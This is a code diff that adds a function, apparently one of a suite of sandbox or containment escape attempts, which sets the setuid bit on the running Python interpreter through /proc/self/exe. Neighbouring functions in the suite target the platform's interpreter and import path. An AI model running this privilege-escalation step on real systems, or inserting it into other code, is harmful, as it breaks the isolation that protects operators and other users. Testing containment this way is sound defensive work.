@@ -175,6 +175,15 @@ def change_the_platforms_python() -> Any:
 
 
 @attempt
+def give_the_platforms_python_to_everybody() -> Any:
+    own = "/proc/self/exe"  # leads past every mount
+    if "memfd:" in os.readlink(own):  # a copy in memory, which means nothing to anybody
+        return None
+    os.chmod(own, stat.S_IMODE(os.stat(own).st_mode) | stat.S_ISUID)
+    return os.stat(own)
+
+
+@attempt
 def put_a_module_where_the_platform_imports() -> Any:
     for entry in sys.path:
         if entry and os.path.isdir(entry) and not entry.startswith(str(HOME / "jobs")):
